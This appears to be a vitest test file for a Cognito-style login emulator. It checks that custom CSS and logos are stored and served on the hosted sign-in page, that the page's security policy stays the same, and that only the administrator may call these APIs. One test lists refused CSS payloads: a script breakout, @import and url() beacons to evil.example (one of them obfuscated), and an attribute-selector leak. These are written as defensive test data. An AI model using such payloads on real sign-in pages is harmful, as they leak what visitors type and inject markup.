// SetUICustomization and GetUICustomization through the AWS SDK v3 client, and what the hosted login
// page serves of them (stylesheet, logo, unchanged Content-Security-Policy), on PGlite and PostgreSQL.
import { DeleteUserPoolClientCommand, GetUICustomizationCommand, SetUICustomizationCommand } from '@aws-sdk/client-cognito-identity-provider';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entriesOf } from '../audit/audit-fixtures.js';
import { AUTH_TEST_ENV } from '../auth/auth-fixtures.js';
import { BOTH_DATABASES, startTestServer, type TestServer } from '../harness.js';
import { hostedSignInPage, newHostedClient } from './hosted-look-fixtures.js';
import { expectAdminOnly, sdkClients, sdkError, type SdkClients } from './sdk-fixtures.js';

// A 1×1 PNG and the first bytes of a GIF.
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
const GIF = Buffer.from('R0lGODlhAQABAAAAACw=', 'base64');
const POOL_CSS = '.submitButton-customizable { background-color: #123456; }\n.banner-customizable { padding: 4px; }';
const CLIENT_CSS = '/* the client */ .background-customizable { background-color: rgb(1, 2, 3); }\n.label-customizable, .inputField-customizable:focus { font-weight: 700; }';

describe.each(BOTH_DATABASES)('UI customization on %s', (database) => {
  let server: TestServer;
  let sdk: SdkClients;
  let poolId: string;
  let clientId: string;
  let otherClientId: string;

  beforeAll(async () => {
    server = await startTestServer({ database, env: AUTH_TEST_ENV });
    sdk = sdkClients(server);
    poolId = server.pool.userPoolId;
    clientId = await newHostedClient(server);
    otherClientId = await newHostedClient(server);
  });
  afterAll(async () => {
    sdk.destroy();
    await server.close();
  });

  it('sets the pool-wide CSS and logo and reads them back with an ImageUrl on managed login', async () => {
    const set = await sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: 'ALL', CSS: POOL_CSS, ImageFile: PNG }));
    expect(set.UICustomization).toMatchObject({ UserPoolId: poolId, ClientId: 'ALL', CSS: POOL_CSS });
    expect(set.UICustomization?.CSSVersion).toMatch(/^[0-9a-f]{16}$/);
    const got = await sdk.admin.send(new GetUICustomizationCommand({ UserPoolId: poolId }));
    expect(got.UICustomization).toEqual(set.UICustomization);
    const imageUrl = got.UICustomization?.ImageUrl ?? '';
    expect(imageUrl.startsWith(`${server.managedLoginUrl}/login-assets/ui/`)).toBe(true);
    const logo = await fetch(imageUrl);
    expect(logo.status).toBe(200);
    expect(logo.headers.get('content-type')).toBe('image/png');
    expect(logo.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await logo.arrayBuffer()).equals(PNG)).toBe(true);
    expect((await entriesOf(server, 'admin.ui_customization.set')).at(-1)).toMatchObject({ record: { type: 'ui_customization', id: `${poolId}/ALL` }, changes: { css: { after: POOL_CSS } } });
  });

  it("applies a client's own customization, else the pool's, and a client set to nothing falls back", async () => {
    await sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, CSS: POOL_CSS }));
    const own = await sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId, CSS: CLIENT_CSS }));
    expect(own.UICustomization).toMatchObject({ ClientId: clientId, CSS: CLIENT_CSS });
    // Each call sets CSS and logo together: the pool's logo went with the call that left it out.
    expect(own.UICustomization?.ImageUrl).toBeUndefined();
    expect((await sdk.admin.send(new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId }))).UICustomization?.CSS).toBe(CLIENT_CSS);
    expect((await sdk.admin.send(new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: otherClientId }))).UICustomization).toMatchObject({ ClientId: 'ALL', CSS: POOL_CSS });
    await sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId }));
    expect((await sdk.admin.send(new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId }))).UICustomization).toMatchObject({ ClientId: 'ALL', CSS: POOL_CSS });
    expect((await sdkError(sdk.admin.send(new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: 'nosuchclient' })))).name).toBe('ResourceNotFoundException');
    expect((await sdkError(sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: 'us-east-1_Missing1', CSS: POOL_CSS })))).name).toBe('ResourceNotFoundException');
  });

  it('serves the customization on the hosted sign-in page: its stylesheet and logo, with the CSP unchanged', async () => {
    const plain = await hostedSignInPage(server, otherClientId);
    await sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: clientId, CSS: CLIENT_CSS, ImageFile: PNG }));
    const page = await hostedSignInPage(server, clientId);
    expect(page.status).toBe(200);
    const cssHref = /<link rel="stylesheet" href="(\/login-assets\/ui\/[^"]+\/custom\.css\?v=[\w-]+)">/.exec(page.html)?.[1];
    const logoSrc = /<img class="auth-card__logo logo-customizable" src="([^"]+)"/.exec(page.html)?.[1];
    expect(cssHref).toContain(`/${clientId}/`);
    expect(logoSrc).toContain(`/${clientId}/logo?v=`);
    // The page carries Cognito's class names for the stylesheet to style.
    for (const name of ['background-customizable', 'banner-customizable', 'label-customizable', 'inputField-customizable', 'submitButton-customizable']) expect(page.html).toContain(name);
    const css = await fetch(new URL(cssHref ?? '', server.managedLoginUrl));
    expect(css.headers.get('content-type')).toBe('text/css; charset=utf-8');
    expect(await css.text()).toBe(CLIENT_CSS);
    const logo = await fetch(new URL(logoSrc?.replace(/&amp;/g, '&') ?? '', server.managedLoginUrl));
    expect(logo.headers.get('content-type')).toBe('image/png');
    // Same origin files: the policy needs no exception, and stays the one every page has.
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toBe(plain.headers.get('content-security-policy'));
    expect(csp).toContain("default-src 'self'");
    expect(csp).not.toContain('unsafe-eval');
    expect(csp).toMatch(/img-src 'self' data:(;|$)/);
    // The other client (the pool's CSS, no logo since the last pool-wide call) shows no client's files.
    const other = await hostedSignInPage(server, otherClientId);
    expect(other.html).not.toContain(`/${clientId}/`);
    expect(other.html).not.toContain('logo-customizable" src=');
  });

  it('refuses CSS that could load from elsewhere, break out of the stylesheet or style other elements', async () => {
    // Threat: the stylesheet is served to every visitor of the sign-in page. An administrator's
    // mistake (or a stolen admin key) must not turn it into a channel that leaks what people type
    // (attribute selectors with url() beacons), loads foreign resources, or injects markup.
    const refused = [
      '.banner-customizable { color: red; } </style><script>alert(1)</script>',
      '@import "https://evil.example/x.css";',
      '.banner-customizable { background-image: url(https://evil.example/beacon); }',
      '.banner-customizable { background: u\\72l(https://evil.example/x); }',
      'input[value^="a"] { color: red; }',
      '.somethingElse { color: red; }',
      '.banner-customizable { color: red; } @media print { .banner-customizable { color: blue; } }',
      '.banner-customizable { width: expression(alert(1)); }',
      '.banner-customizable { color: red; ',
      '.banner-customizable { color: red; } /* open',
    ];
    for (const CSS of refused) {
      const error = await sdkError(sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: otherClientId, CSS })));
      expect(error.name, CSS).toBe('InvalidParameterException');
    }
    expect((await sdkError(sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: otherClientId, ImageFile: GIF })))).name).toBe('InvalidParameterException');
    const tooBig = Buffer.concat([PNG, Buffer.alloc(40 * 1024)]);
    const big = await sdkError(sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: otherClientId, ImageFile: Buffer.concat([tooBig, tooBig, tooBig]) })));
    expect(big.name).toBe('InvalidParameterException');
    // Nothing refused was stored.
    expect((await sdk.admin.send(new GetUICustomizationCommand({ UserPoolId: poolId, ClientId: otherClientId }))).UICustomization?.ClientId).toBe('ALL');
  });

  it('answers 404 for customization files that do not exist, and a deleted client takes its customization with it', async () => {
    const missing = await fetch(`${server.managedLoginUrl}/login-assets/ui/${poolId}/nosuchclient/custom.css`);
    expect(missing.status).toBe(404);
    expect((await fetch(`${server.managedLoginUrl}/login-assets/ui/${poolId}/nosuchclient/logo`)).status).toBe(404);
    const doomed = await newHostedClient(server);
    await sdk.admin.send(new SetUICustomizationCommand({ UserPoolId: poolId, ClientId: doomed, CSS: CLIENT_CSS, ImageFile: PNG }));
    expect((await fetch(`${server.managedLoginUrl}/login-assets/ui/${poolId}/${doomed}/custom.css`)).status).toBe(200);
    await sdk.admin.send(new DeleteUserPoolClientCommand({ UserPoolId: poolId, ClientId: doomed }));
    expect((await fetch(`${server.managedLoginUrl}/login-assets/ui/${poolId}/${doomed}/custom.css`)).status).toBe(404);
    expect((await server.db.query('SELECT 1 FROM ui_customizations WHERE client_id = $1', [doomed])).length).toBe(0);
  });

  it('answers only the admin credential', async () => {
    // Threat: an unsigned caller restyling the sign-in page could make it look like a phishing page's twin.
    await expectAdminOnly(server, sdk, 'SetUICustomization', { UserPoolId: poolId, CSS: POOL_CSS });
    await expectAdminOnly(server, sdk, 'GetUICustomization', { UserPoolId: poolId });
  });
});
